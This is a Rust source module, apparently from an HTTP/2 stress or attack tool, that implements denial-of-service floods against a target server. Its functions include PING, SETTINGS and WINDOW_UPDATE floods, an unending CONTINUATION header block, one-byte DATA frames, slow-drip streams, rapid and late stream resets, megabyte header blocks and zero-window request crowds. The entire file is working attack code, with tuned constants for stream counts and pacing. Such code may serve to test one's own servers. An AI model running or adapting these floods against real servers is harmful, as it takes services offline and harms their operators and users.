//! Floods of HTTP/2 frames.

use std::time::Duration;

use tokio::io::{self, AsyncReadExt, AsyncWrite, AsyncWriteExt, sink, split};
use tokio::net::TcpStream;
use tokio::time::sleep;
use tokio_rustls::client::TlsStream;

use super::{Attacker, Kind};
use crate::hosting::frames::{
    CONTINUATION, DATA, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    block, frame, get, headers, preface, read,
};

impl Attacker {
    /// Repeats one frame of the connection.
    pub(super) async fn control_frames(&self, stream: TlsStream<TcpStream>) -> io::Result<()> {
        let once = match self.kind {
            Kind::Ping => frame(PING, 0, 0, &[7; 8]),
            Kind::Settings => frame(SETTINGS, 0, 0, &[]),
            Kind::Priority => frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 16]),
            _ => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
        };
        self.repeat(stream, preface(65_535), once.repeat(AT_ONCE))
            .await
    }

    /// Repeats a PING, too seldom for a budget of frames.
    pub(super) async fn pings(&self, stream: TlsStream<TcpStream>) -> io::Result<()> {
        let (mut from, mut to) = split(stream);
        to.write_all(&preface(65_535)).await?;
        let pings = async {
            loop {
                self.write(&mut to, &frame(PING, 0, 0, &[7; 8]), 1).await?;
                sleep(PING_PAUSE).await;
            }
        };
        let mut nowhere = sink();
        tokio::select! {
            ended = pings => ended,
            ended = io::copy(&mut from, &mut nowhere) => ended.map(drop),
        }
    }

    /// Begins a field block and never ends it.
    pub(super) async fn continuations(&self, stream: TlsStream<TcpStream>) -> io::Result<()> {
        let fields = block(&[("x-field", "x".repeat(100))]);
        let begin = [preface(65_535), frame(HEADERS, END_STREAM, 1, &fields)].concat();
        let more = frame(CONTINUATION, 0, 1, &fields).repeat(AT_ONCE);
        self.repeat(stream, begin, more).await
    }

    /// Sends a body of one byte per frame.
    pub(super) async fn tiny_frames(&self, stream: TlsStream<TcpStream>) -> io::Result<()> {
        let begin = [preface(65_535), self.post(1)].concat();
        let more = frame(DATA, 0, 1, b"x").repeat(AT_ONCE);
        self.repeat(stream, begin, more).await
    }

    /// Begins requests on all streams, and sends a byte of one body after the other.
    pub(super) async fn slow_streams(&self, stream: TlsStream<TcpStream>) -> io::Result<()> {
        let (mut from, mut to) = split(stream);
        let numbers = || (0..STREAMS).map(|number| 2 * number + 1);
        let begin: Vec<_> = numbers()
            .flat_map(|number| [self.post(number), byte(number)].concat())
            .collect();
        let writing = async {
            to.write_all(&preface(65_535)).await?;
            self.write(&mut to, &begin, u64::from(STREAMS)).await?;
            for number in numbers().cycle() {
                sleep(DRIP).await;
                self.write(&mut to, &byte(number), 1).await?;
            }
            Ok(())
        };
        let mut nowhere = sink();
        tokio::select! {
            ended = writing => ended,
            ended = io::copy(&mut from, &mut nowhere) => ended.map(drop),
        }
    }

    /// Makes the head of a POST.
    fn post(&self, stream: u32) -> Vec<u8> {
        let fields = [
            (":method", "POST"),
            (":scheme", "https"),
            (":authority", &self.target.host),
            (":path", &self.target.path),
        ];
        headers(stream, 0, &block(&fields))
    }

    /// Writes until the server ends the connection, and reads what comes.
    async fn repeat(
        &self,
        stream: TlsStream<TcpStream>,
        begin: Vec<u8>,
        many: Vec<u8>,
    ) -> io::Result<()> {
        let (mut from, mut to) = split(stream);
        to.write_all(&begin).await?;
        let writing = async {
            loop {
                self.write(&mut to, &many, AT_ONCE as u64).await?;
            }
        };
        let mut nowhere = sink();
        tokio::select! {
            ended = writing => ended,
            ended = io::copy(&mut from, &mut nowhere) => ended.map(drop),
        }
    }

    /// Resets each request once its answer has begun. Without a window, each
    /// answer stays pending until its reset.
    pub(super) async fn late_resets(&self, stream: &mut TlsStream<TcpStream>) -> io::Result<()> {
        stream.write_all(&preface(0)).await?;
        let mut answer = vec![0; 16 << 10];
        for number in (1..MOST_STREAMS).step_by(2) {
            stream.write_all(&self.request(number)).await?;
            stream.flush().await?;
            if stream.read(&mut answer).await? == 0 {
                break;
            }
            self.write(stream, &reset(number), 1).await?;
        }
        Ok(())
    }

    /// Resets each request at once.
    pub(super) async fn rapid_resets(&self, stream: TlsStream<TcpStream>) -> io::Result<()> {
        let (mut from, mut to) = split(stream);
        to.write_all(&preface(65_535)).await?;
        let writing = async {
            let mut numbers = (1..MOST_STREAMS).step_by(2);
            loop {
                let pairs = numbers.by_ref().take(AT_ONCE);
                let many: Vec<_> = pairs
                    .flat_map(|number| [self.request(number), reset(number)].concat())
                    .collect();
                self.write(&mut to, &many, AT_ONCE as u64).await?;
            }
        };
        let mut nowhere = sink();
        tokio::select! {
            ended = writing => ended,
            ended = io::copy(&mut from, &mut nowhere) => ended.map(drop),
        }
    }

    /// Sends a megabyte of fields with each request.
    pub(super) async fn huge_heads(&self, stream: TlsStream<TcpStream>) -> io::Result<()> {
        let (mut from, mut to) = split(stream);
        to.write_all(&preface(65_535)).await?;
        let host = self.target.host.as_bytes();
        let large = "x".repeat(8000);
        let mut fields: Vec<(&str, &[u8])> = vec![
            (":method", b"GET"),
            (":scheme", b"https"),
            (":authority", host),
            (":path", b"/"),
        ];
        fields.extend((0..HUGE / large.len()).map(|_| ("x-field", large.as_bytes())));
        let block = block(&fields);
        let writing = async {
            for number in (1..MOST_STREAMS).step_by(2) {
                let head = headers(number, END_STREAM, &block);
                self.write(&mut to, &head, 1).await?;
            }
            Ok(())
        };
        let mut nowhere = sink();
        tokio::select! {
            ended = writing => ended,
            ended = io::copy(&mut from, &mut nowhere) => ended.map(drop),
        }
    }

    /// Asks for as many answers as streams may be open, and has no window for them.
    pub(super) async fn closed_windows(&self, stream: &mut TlsStream<TcpStream>) -> io::Result<()> {
        stream.write_all(&preface(0)).await?;
        let requests: Vec<_> = (0..STREAMS)
            .flat_map(|number| self.request(2 * number + 1))
            .collect();
        self.write(stream, &requests, u64::from(STREAMS)).await?;
        io::copy(stream, &mut sink()).await.map(drop)
    }

    /// Asks for as many compressed answers as streams may be open, and for as many again once
    /// all have come.
    pub(super) async fn crowds(&self, stream: &mut TlsStream<TcpStream>) -> io::Result<()> {
        let window = frame(WINDOW_UPDATE, 0, 0, &[0x3f, 0xff, 0, 0]);
        stream
            .write_all(&[preface(65_535), window].concat())
            .await?;
        let fields = block(&[
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", &self.target.host),
            (":path", &self.target.path),
            ("accept-encoding", "gzip"),
        ]);
        let mut numbers = (1..MOST_STREAMS).step_by(2);
        loop {
            let numbers = numbers.by_ref().take(STREAMS as usize);
            let requests: Vec<_> = numbers
                .flat_map(|number| headers(number, END_STREAM, &fields))
                .collect();
            self.write(stream, &requests, u64::from(STREAMS)).await?;
            let mut left = STREAMS;
            while left > 0 {
                let frame = read(stream).await?;
                let is_over = frame.ends_stream() || frame.kind == RST_STREAM;
                left = left.saturating_sub(u32::from(is_over));
            }
        }
    }

    pub(super) async fn write<S: AsyncWrite + Unpin>(
        &self,
        to: &mut S,
        bytes: &[u8],
        frames: u64,
    ) -> io::Result<()> {
        to.write_all(bytes).await?;
        to.flush().await?;
        self.sent(frames);
        // Writes that never wait would leave no turn to the end of the flood.
        tokio::task::yield_now().await;
        Ok(())
    }

    fn request(&self, stream: u32) -> Vec<u8> {
        get(stream, &self.target.host, &self.target.path)
    }
}

/// Makes a byte of a body.
fn byte(stream: u32) -> Vec<u8> {
    frame(DATA, 0, stream, b"x")
}

fn reset(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])
}

/// Frames in one write.
const AT_ONCE: usize = 256;
/// Stream id that ends a connection: ids must not be reused.
const MOST_STREAMS: u32 = 1 << 30;
/// Streams that a server usually allows.
pub(super) const STREAMS: u32 = 100;
const HUGE: usize = 1 << 20;
/// Pause between two PINGs of a connection.
const PING_PAUSE: Duration = Duration::from_millis(300);
/// Between two bytes: one on each stream in 25 s.
const DRIP: Duration = Duration::from_millis(250);
